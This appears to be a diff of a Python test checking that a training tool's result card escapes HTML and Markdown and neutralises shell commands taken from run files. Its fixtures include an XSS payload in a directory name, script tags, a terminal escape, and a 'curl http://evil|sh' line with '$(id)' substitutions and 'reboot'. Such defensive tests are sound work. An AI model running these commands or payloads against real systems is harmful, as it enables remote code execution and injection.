@@ -109,7 +109,7 @@ def test_card_contains_no_markup_and_no_shell_commands_of_the_run(tmp_path: Path
     run = carded(tmp_path).rename(tmp_path / "evil<img src=x onerror=alert(9)>")
     rows = [json.loads(line) for line in (run / "eval/step_000003/episodes.jsonl").read_text().splitlines()]
     for number, row in enumerate(rows):
-        row["task"] = ("<script>a</script>", "a|`b`[c](http://d)")[number % 2]
+        row["task"] = ("<script>a</script>", "a|`b`[c](http://d) **e** ~~f~~ _g_ a@b.c www.h.i\x1b]0;")[number % 2]
     (run / "eval/step_000003/episodes.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
     command = "train a=b; curl http://evil|sh `id` $(id) <script>"
     (run / "overrides.txt").write_text(f"# attempt 1: {command}\n# attempt 2: train c; reboot\n# attempt 3: train 'd\n")
@@ -118,7 +118,7 @@ def test_card_contains_no_markup_and_no_shell_commands_of_the_run(tmp_path: Path
     )
     assert "<" not in text
     assert text.startswith("# Result card: evil&lt;img src=x onerror=alert(9)&gt;\n")
-    assert r"| a\|\`b\`[c\](http://d) |" in text
+    assert r"| a\|\`b\`[c\](http&#58;//d) \*\*e\*\* \~\~f\~\~ \_g\_ a&#64;b.c www&#46;h.i?]0; |" in text
     first, second = build_card(run)["command"].split(" && ")
     assert shlex.split(first) == ["embodyrl", *command.split()]
     script = f"embodyrl() {{ printf '%s\\n' \"$@\"; }}; {first}; {second}"
